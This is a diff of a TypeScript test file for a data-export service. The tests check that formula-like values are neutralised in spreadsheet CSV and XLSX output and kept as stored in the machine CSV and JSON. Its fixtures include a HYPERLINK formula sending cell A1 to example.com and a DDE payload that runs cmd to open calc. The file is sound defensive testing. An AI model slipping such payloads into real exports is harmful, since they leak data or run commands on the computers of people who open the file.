@@ -21,6 +21,7 @@ import { TEST_BACKEND } from '../../../test/database.ts';
 import { SHENYANG_DISTRICTS, uploadAs } from '../../../test/provision.ts';
 import { creditCodeCheckCharacter, organisationCodeCheckCharacter } from '../../shared/identifiers.ts';
 import type { Actor } from '../../shared/principal.ts';
+import { to as copyTo } from 'pg-copy-streams';
 import { prepareExport, type ExportQuery } from './export.ts';
 import { collectGarbage } from './formats/test-files.ts';
 import { loadEntry } from './provision.service.ts';
@@ -484,6 +485,8 @@ describe('refusals come before the first byte, as problem+json', () => {
     ['format=csv&fields=name,nope', 400, 'validation'],
     ['format=csv&fields=name,name', 400, 'validation'],
     ['format=csv&version=abc', 400, 'validation'],
+    ['format=xlsx&variant=machine', 400, 'validation'],
+    ['format=csv&variant=raw', 400, 'validation'],
     ['format=csv&version=99', 404, 'not_found'],
     ['format=csv&version=00000000-0000-4000-8000-000000000000', 404, 'not_found'],
   ])('%s → %i %s', async (q, status, problem) => {
@@ -597,6 +600,14 @@ describe('the COPY fast path (PostgreSQL) gives the bytes of the generic path', 
       '\\N',
       'tab\there',
       '😀𠮷',
+      // Formula-like: neutralised in the CSV for spreadsheets, as they are in the machine CSV.
+      '=1+1',
+      '-1',
+      '+',
+      '@x',
+      '\tlead tab',
+      '\rlead cr',
+      "'=quoted already",
     ];
     for (const [i, text] of hard.entries())
       await sql`insert into ${sql.id('resource_data', v.table_name ?? '')} (_row, c1) values (${i + 10}, ${text})`.execute(
@@ -613,19 +624,196 @@ describe('the COPY fast path (PostgreSQL) gives the bytes of the generic path', 
       for await (const c of p.open()) chunks.push(c as Buffer);
       return Buffer.concat(chunks);
     };
-    for (const encoding of ['utf-8', 'gb18030'] as const) {
-      const fast = await bytes({ format: 'csv', encoding }, false);
-      const generic = await bytes({ format: 'csv', encoding }, true);
-      expect(fast.equals(generic), `${encoding}:\n${fast.toString()}\n---\n${generic.toString()}`).toBe(true);
-      const parsed = parse(iconv.decode(fast, encoding === 'utf-8' ? 'utf8' : 'gb18030'), {
-        bom: true,
-      }) as string[][];
-      expect(parsed.map((r) => r[0])).toEqual(['text', 'A', ...hard, '']);
+    const formulaLike = /^[=+\-@\t\r]/;
+    for (const variant of ['spreadsheet', 'machine'] as const)
+      for (const encoding of ['utf-8', 'gb18030'] as const) {
+        const fast = await bytes({ format: 'csv', encoding, variant }, false);
+        const generic = await bytes({ format: 'csv', encoding, variant }, true);
+        expect(
+          fast.equals(generic),
+          `${variant} ${encoding}:\n${fast.toString()}\n---\n${generic.toString()}`,
+        ).toBe(true);
+        // A BOM only in the UTF-8 CSV for spreadsheets.
+        expect(fast.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(
+          variant === 'spreadsheet' && encoding === 'utf-8',
+        );
+        const parsed = parse(iconv.decode(fast, encoding === 'utf-8' ? 'utf8' : 'gb18030'), {
+          bom: true,
+        }) as string[][];
+        const values = variant === 'machine' ? hard : hard.map((h) => (formulaLike.test(h) ? `'${h}` : h));
+        expect(parsed.map((r) => r[0])).toEqual(['text', 'A', ...values, '']);
+      }
+    if (TEST_BACKEND === 'postgres') {
+      // The machine CSV in UTF-8 is what COPY … (FORMAT csv, HEADER) writes, byte for byte.
+      const lease = await t.app.database.lease(`test-copy:${crypto.randomUUID()}`);
+      const client = lease?.client;
+      if (!lease || !client) throw new Error('no connection');
+      try {
+        const chunks: Buffer[] = [];
+        const copy = client.query(
+          copyTo(
+            `copy (select c1 as text from resource_data.${v.table_name ?? ''} order by _row) to stdout with (format csv, header)`,
+          ),
+        );
+        for await (const c of copy) chunks.push(c as Buffer);
+        expect(
+          (await bytes({ format: 'csv', variant: 'machine' }, false)).equals(Buffer.concat(chunks)),
+        ).toBe(true);
+      } finally {
+        await lease.release();
+      }
     }
     const text = (await bytes({ format: 'csv' }, false)).toString('utf8');
     // An empty string is quoted, a null is not; a lone \. is quoted (a one-column COPY would end there).
     expect(text.split('\n').slice(2, 4)).toEqual(['""', '"\\."']);
     expect(text.endsWith('\n\n')).toBe(true);
+  });
+});
+
+describe('values a spreadsheet would run as formulas', () => {
+  let id = '';
+  const LABELS_F = ['文本', '-说明', '金额', '数量', '日期'];
+  const HYPERLINK = '=HYPERLINK("http://example.com/?q="&A1,"点击")';
+  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
+  /** As provided and stored (the machine CSV, JSON); the last row written straight into the table. */
+  const STORED = [
+    [HYPERLINK, '+1', '-3.5', '-7', '2020-01-01'],
+    [DDE, '-2+3', '0.5', '3', '2020-01-02'],
+    ['普通文本', 'a=b', '-0.25', '-1', '2020-01-03'],
+    ['\t=1', '\r-1', '', '', ''],
+  ];
+  /** In the CSV for spreadsheets: text values get a ' before them; numbers and dates do not. */
+  const NEUTRALISED = [
+    [`'${HYPERLINK}`, "'+1", '-3.5', '-7', '2020-01-01'],
+    [`'${DDE}`, "'-2+3", '0.5', '3', '2020-01-02'],
+    ['普通文本', 'a=b', '-0.25', '-1', '2020-01-03'],
+    ["'\t=1", "'\r-1", '', '', ''],
+  ];
+  let report: {
+    notices?: {
+      code: string;
+      field: string;
+      count: number;
+      firstRow: number;
+      firstValue: string;
+      message: { zh: string };
+    }[];
+    problemCount: number;
+  } | null = null;
+
+  beforeAll(async () => {
+    const entry = await publishEntry(
+      as('scjg.cataloguer'),
+      as('reviewer'),
+      metadata({
+        name: '公式测试',
+        dataItems: [
+          item('text', '文本', { length: 100 }),
+          item('note', '-说明', { length: 100, required: false }),
+          item('amount', '金额', { dataType: 'decimal', length: 12, required: false }),
+          item('qty', '数量', { dataType: 'integer', length: 6, required: false }),
+          item('opened', '日期', { dataType: 'date', length: null, required: false }),
+        ],
+      }),
+    );
+    id = entry.id;
+    const rows = STORED.slice(0, 3).map((r) => r.map(csvQuote).join(','));
+    const up = await upload(
+      id,
+      Buffer.from(`text,note,amount,qty,opened\r\n${rows.join('\r\n')}\r\n`),
+      'format=csv&encoding=utf8',
+    );
+    expect(up.statusCode, up.body).toBe(201);
+    report = (up.json() as { report: typeof report }).report;
+    // Ingest trims values, so a leading tab or carriage return can only be written straight in.
+    const v = await t.app.db
+      .selectFrom('data_versions')
+      .select('table_name')
+      .where('entry_id', '=', id)
+      .executeTakeFirstOrThrow();
+    await sql`insert into ${sql.id('resource_data', v.table_name ?? '')} (_row, c1, c2) values (100, ${'\t=1'}, ${'\r-1'})`.execute(
+      t.app.db,
+    );
+  });
+
+  it('ingest accepts them and its report flags them per text item, with the count and first row', () => {
+    expect(report?.problemCount).toBe(0);
+    expect(report?.notices?.map((n) => [n.code, n.field, n.count, n.firstRow, n.firstValue])).toEqual([
+      ['formula_like', 'text', 2, 2, HYPERLINK],
+      ['formula_like', 'note', 2, 2, '+1'],
+    ]);
+    expect(report?.notices?.[0]?.message.zh).toContain('“文本”有 2 个值');
+  });
+
+  it('the CSV for spreadsheets (UTF-8 with BOM, GBK, GB18030) puts a quote before them, numbers stay numbers', async () => {
+    for (const encoding of ['utf-8', 'gbk', 'gb18030'] as const) {
+      for (const q of [
+        `format=csv&encoding=${encoding}&header=label`,
+        `format=csv&encoding=${encoding}&header=label&variant=spreadsheet`,
+      ]) {
+        const g = await get(url(q, id), 'scjg.provider');
+        expect(g.status, g.body.toString()).toBe(200);
+        const text = encoding === 'utf-8' ? g.body.toString('utf8') : iconv.decode(g.body, encoding);
+        expect(text.startsWith('\ufeff')).toBe(encoding === 'utf-8');
+        const rows = parse(text, { bom: true }) as string[][];
+        // A label is free text too.
+        expect(rows[0]).toEqual(['文本', "'-说明", '金额', '数量', '日期']);
+        expect(rows.slice(1)).toEqual(NEUTRALISED);
+      }
+    }
+  });
+
+  it('the machine CSV is the data as stored, without a BOM', async () => {
+    const g = await get(url('format=csv&variant=machine', id), 'scjg.provider');
+    expect(g.status).toBe(200);
+    expect(g.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(g.body.subarray(0, 4).toString('utf8')).toBe('text');
+    expect(parse(g.body.toString('utf8'))).toEqual([['text', 'note', 'amount', 'qty', 'opened'], ...STORED]);
+    const labelled = await get(
+      url('format=csv&variant=machine&header=label&encoding=gbk', id),
+      'scjg.provider',
+    );
+    expect((parse(iconv.decode(labelled.body, 'gbk')) as string[][])[0]).toEqual(LABELS_F);
+  });
+
+  it('XLSX holds them as text cells, never formulas; numbers as numbers', async () => {
+    const g = await get(url('format=xlsx&header=label', id), 'scjg.provider');
+    expect(g.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(g.body as unknown as ArrayBuffer);
+    const ws = wb.worksheets[0];
+    if (!ws) throw new Error('no sheet');
+    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(LABELS_F);
+    for (const [r, row] of STORED.entries()) {
+      for (const c of [1, 2]) {
+        const cell = ws.getRow(r + 2).getCell(c);
+        expect(cell.type, `${r + 2}:${c}`).toBe(ExcelJS.ValueType.String);
+        expect(cell.formula).toBeUndefined();
+        // XML reads a carriage return as a line feed (exceljs writes it unescaped): an XLSX limit
+        // of its own, not a formula matter.
+        expect(cell.value).toBe(row[c - 1]?.replaceAll('\r', '\n'));
+      }
+    }
+    expect(ws.getRow(2).getCell(3).value).toBe(-3.5);
+    expect(ws.getRow(2).getCell(4).value).toBe(-7);
+  });
+
+  it('JSON gives them as they are', async () => {
+    const g = await get(url('format=json&fields=text,note,amount', id), 'scjg.provider');
+    expect(JSON.parse(g.body.toString('utf8'))).toEqual(
+      STORED.map((r) => ({ text: r[0], note: r[1], amount: r[2] === '' ? null : Number(r[2]) })),
+    );
+  });
+
+  it('every export of CSV is audited with its variant', async () => {
+    await get(url('format=csv&variant=machine', id), 'scjg.provider');
+    const row = await t.app.db
+      .selectFrom('audit_log')
+      .select('detail')
+      .where('action', '=', 'provision.data_exported')
+      .orderBy('seq', 'desc')
+      .executeTakeFirstOrThrow();
+    expect(row.detail).toMatchObject({ format: 'csv', encoding: 'utf-8', variant: 'machine' });
   });
 });
 
